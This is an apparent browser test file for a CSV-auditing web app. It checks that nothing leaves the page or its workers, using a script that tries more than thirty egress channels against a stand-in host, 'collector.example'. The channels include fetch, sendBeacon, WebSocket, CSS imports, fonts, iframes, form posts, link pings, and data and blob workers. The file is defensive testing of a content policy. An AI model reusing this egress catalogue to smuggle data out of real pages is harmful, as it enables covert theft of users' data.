import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page, Worker } from 'playwright';
import sirv from 'sirv';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { build } from '../../src/cli/build.ts';
import { type Served, serve } from '../../src/cli/serve.ts';
import { ready, visit } from '../support/browser.ts';

/** Tries every way out of a page or worker to the host given; each may fail in its own way. Resolves after a while. */
const TRY_ALL = `async host => {
  const away = 'http://' + host;
  const tried = [];
  const attempt = async (name, work) => {
    try { await Promise.race([work(), new Promise(done => setTimeout(done, 300))]); tried.push(name); } catch { tried.push(name); }
  };
  await attempt('fetch', () => fetch(away + '/fetch', { mode: 'no-cors' }));
  await attempt('fetch post', () => fetch(away + '/post', { mode: 'no-cors', method: 'POST', body: 'x' }));
  await attempt('keepalive', () => fetch(away + '/keepalive', { mode: 'no-cors', keepalive: true }));
  await attempt('xhr', () => new Promise(done => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', away + '/xhr'); x.send(); }));
  await attempt('socket', () => new Promise(done => { const s = new WebSocket('ws://' + host + '/socket'); s.onclose = done; }));
  await attempt('events', () => new Promise(done => { const s = new EventSource(away + '/events'); s.onerror = () => { s.close(); done(); }; }));
  await attempt('import', () => import(away + '/import.js'));
  await attempt('scripts', () => importScripts(away + '/scripts.js'));
  await attempt('worker', () => new Worker(away + '/worker.js'));
  await attempt('data worker', () => new Worker("data:text/javascript,fetch('" + away + "/data-worker',{mode:'no-cors'})"));
  await attempt('blob worker', () => new Worker(URL.createObjectURL(new Blob(["fetch('" + away + "/blob-worker',{mode:'no-cors'})"]))));
  await attempt('cache', () => caches.open('x').then(c => c.add(away + '/cache')));
  if (typeof document !== 'undefined') {
    const put = (tag, attributes) => { const e = document.createElement(tag); for (const [k, v] of Object.entries(attributes)) e.setAttribute(k, v); document.body.append(e); return e; };
    await attempt('beacon', async () => navigator.sendBeacon(away + '/beacon', 'x'));
    await attempt('image', async () => put('img', { src: away + '/image' }));
    await attempt('srcset', async () => put('img', { srcset: away + '/srcset 2x' }));
    await attempt('style sheet', async () => put('link', { rel: 'stylesheet', href: away + '/sheet.css' }));
    await attempt('style', async () => { put('style', {}).textContent = '@import "' + away + '/style.css"; body { background: url(' + away + '/background) }'; });
    await attempt('set property', async () => { document.body.style.backgroundImage = 'url(' + away + '/property)'; });
    await attempt('font', async () => { const f = new FontFace('x', 'url(' + away + '/font)'); document.fonts.add(f); await f.load(); });
    for (const rel of ['prefetch', 'preload', 'modulepreload', 'icon', 'manifest']) await attempt(rel, async () => put('link', { rel, href: away + '/' + rel, as: 'script' }));
    await attempt('script', async () => put('script', { src: away + '/script.js' }));
    await attempt('frame', async () => put('iframe', { src: away + '/frame' }));
    await attempt('object', async () => put('object', { data: away + '/object' }));
    await attempt('embed', async () => put('embed', { src: away + '/embed' }));
    await attempt('video', async () => put('video', { src: away + '/video', poster: away + '/poster' }));
    await attempt('audio', async () => put('audio', { src: away + '/audio' }));
    await attempt('track', async () => { const v = put('video', {}); const t = document.createElement('track'); t.src = away + '/track'; v.append(t); });
    await attempt('form', async () => { const f = put('form', { action: away + '/form', method: 'post', target: 'nowhere' }); f.submit(); });
    await attempt('svg', async () => { const s = document.createElementNS('http://www.w3.org/2000/svg', 'image'); s.setAttribute('href', away + '/svg'); put('div', {}).append(s); });
    await attempt('ping', async () => { const a = put('a', { href: '#x', ping: away + '/ping' }); a.click(); });
  }
  await new Promise(done => setTimeout(done, 500));
  return tried;
}`;

const AWAY = 'collector.example';
let dist: string;
let own: Served;
let bare: Served;

/** A host that sends no headers of its own. */
function serveBare(folder: string): Promise<Served> {
  const files = sirv(folder, { dev: true });
  const server = createServer((request, response) =>
    files(request, response, () => void response.writeHead(404).end()),
  );
  return new Promise(resolve => {
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as AddressInfo;
      const close = (): Promise<void> =>
        new Promise(done => {
          server.close(() => done());
          server.closeAllConnections();
        });
      resolve({ url: `http://127.0.0.1:${port}/`, close });
    });
  });
}

beforeAll(async () => {
  dist = await build();
  own = await serve(dist, 0);
  bare = await serveBare(dist);
});
afterAll(async () => {
  await own.close();
  await bare.close();
});

const DATA = {
  name: 'one.csv',
  mimeType: 'text/csv',
  buffer: Buffer.from(
    'city,sector,year,indicator,value\nDongguan,building,2024,B2-04,60\nTianjin,building,2024,B2-04,61\n',
  ),
};

/** What has left for the collector, as the sink saw it. */
const left = (foreign: () => readonly string[]): readonly string[] =>
  foreign().filter(line => line.includes(AWAY) && !line.startsWith('http'));

/** Tries everything from the page and from every worker that works meanwhile. */
async function tryAll(page: Page, address: string): Promise<readonly string[]> {
  const workers: string[] = [];
  const caught: Promise<unknown>[] = [];
  const tryFrom = (worker: Worker): void => {
    workers.push(worker.url());
    // Workers that end with their work take what is tried with them.
    caught.push(worker.evaluate(`(${TRY_ALL})('${AWAY}')`).catch(() => undefined));
  };
  page.on('worker', tryFrom);
  for (const worker of page.workers()) tryFrom(worker);
  await page.getByLabel('Add data files').setInputFiles(DATA);
  await ready(page);
  for (const screen of ['audit', 'robustness']) {
    await page.goto(`${address}#/${screen}?lang=en`);
    await ready(page);
  }
  const tried = await page.evaluate<readonly string[]>(`(${TRY_ALL})('${AWAY}')`);
  expect(tried.length).toBeGreaterThan(30);
  await Promise.all(caught);
  return workers;
}

describe('nothing leaves the page or a worker, whatever way is tried', () => {
  it('on a host that sends the headers', async () => {
    const { page, foreign, close } = await visit(own.url, { at: '/data' });
    expect((await tryAll(page, own.url)).length).toBeGreaterThan(2);
    expect(left(foreign)).toEqual([]);
    await close();
  }, 120_000);

  it('on a host that sends none, but for a script that a script of ours would have to ask for', async () => {
    const { page, foreign, close } = await visit(bare.url, { at: '/data' });
    expect((await tryAll(page, bare.url)).length).toBeGreaterThan(2);
    expect(left(foreign).filter(line => !line.endsWith('/import.js'))).toEqual([]);
    await close();
  }, 120_000);

  it('on a host that sends none, from the second visit on', async () => {
    const { page, foreign, close } = await visit(bare.url, { at: '/data', keepsOffline: true });
    await page.evaluate(() => navigator.serviceWorker.ready.then(r => r.active?.state));
    await page.reload();
    await ready(page);
    expect(await page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
    expect((await tryAll(page, bare.url)).length).toBeGreaterThan(2);
    expect(left(foreign)).toEqual([]);
    await close();
  }, 120_000);

  it('while from a page without a policy it does: a count of none means something', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'gsc-bare-'));
    writeFileSync(join(folder, 'index.html'), '<!doctype html><title>bare</title><body></body>');
    const blank = await serveBare(folder);
    const { page, foreign, close } = await visit(own.url);
    await page.goto(blank.url);
    await page.evaluate(`(${TRY_ALL})('${AWAY}')`).catch(() => undefined);
    expect(left(foreign).length).toBeGreaterThan(10);
    await close();
    await blank.close();
  }, 60_000);
});
